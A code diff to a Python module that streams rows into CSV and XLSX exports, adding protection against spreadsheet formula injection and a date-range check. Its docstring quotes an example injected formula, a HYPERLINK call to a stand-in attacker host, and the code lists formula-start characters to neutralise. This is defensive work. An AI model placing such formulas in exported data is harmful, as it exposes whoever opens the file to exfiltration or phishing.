@@ -2,6 +2,12 @@
 
 Rows arrive as an async stream and are written as they come: an XLSX is built with
 openpyxl's write-only mode, a CSV straight into the output.
+
+Exports are data, never formulas (docs/roles.md): a villager's message or an imported name
+that starts with `=`, `+`, `-`, `@`, a tab or a carriage return would run as a formula when a
+spreadsheet program opens the file (`=HYPERLINK("http://evil.example/…")`). Every such text cell
+gets a leading single quote, as OWASP advises for CSV injection, in both formats — and an XLSX
+text cell is written as text, so openpyxl never stores it as a formula. Numbers stay numbers.
 """
 
 from __future__ import annotations
@@ -10,12 +16,18 @@ import csv
 import io
 import re
 from collections.abc import AsyncIterator
+from datetime import date
 from typing import IO, Any
 
 from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
+
+# The days an export may cover: a county's records start this century, and a year like 1900 or
+# 9999 is a typo (9999-12-31 is also one day short of overflowing every date computation).
+EARLIEST_DAY = date(2000, 1, 1)
+LATEST_DAY = date(2099, 12, 31)
 
 BOM = "\ufeff"
 MIME = {"csv": "text/csv", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}
@@ -33,13 +45,38 @@ async def write_csv(rows: AsyncIterator[list[Any]], headers: list[str], out: IO[
     async for row in rows:
         if limit is not None and count >= limit:
             return count, True
-        writer.writerow(row)
+        writer.writerow([neutralise(v) for v in row])
         count += 1
     return count, False
 
 
+# What a spreadsheet program reads as the start of a formula (or as a cell break before one).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralise(value: Any) -> Any:
+    """A cell as data: text that a spreadsheet would run as a formula gets a leading quote; other values as they are."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def sane_period(start: date, end: date) -> bool:
+    """Whether a period is one an export may cover: in order, and within `EARLIEST_DAY`…`LATEST_DAY`."""
+    return EARLIEST_DAY <= start <= end <= LATEST_DAY
+
+
 def _sheet_title(title: str) -> str:
     return _SHEET_FORBIDDEN.sub("_", title)[:31] or "Sheet1"
+
+
+def _xlsx_cell(sheet: Any, value: Any) -> Any:
+    """An XLSX cell: text neutralised and typed as text (openpyxl stores any "=…" string as a formula)."""
+    if not isinstance(value, str):
+        return value
+    cell = WriteOnlyCell(sheet, value=neutralise(value))
+    cell.data_type = "s"
+    return cell
 
 
 async def write_xlsx(rows: AsyncIterator[list[Any]], headers: list[str], out: IO[bytes] | str, *, title: str,
@@ -63,7 +100,7 @@ async def write_xlsx(rows: AsyncIterator[list[Any]], headers: list[str], out: IO
         if limit is not None and count >= limit:
             cut = True
             break
-        sheet.append(row)
+        sheet.append([_xlsx_cell(sheet, v) for v in row])
         count += 1
     book.save(out)
     return count, cut
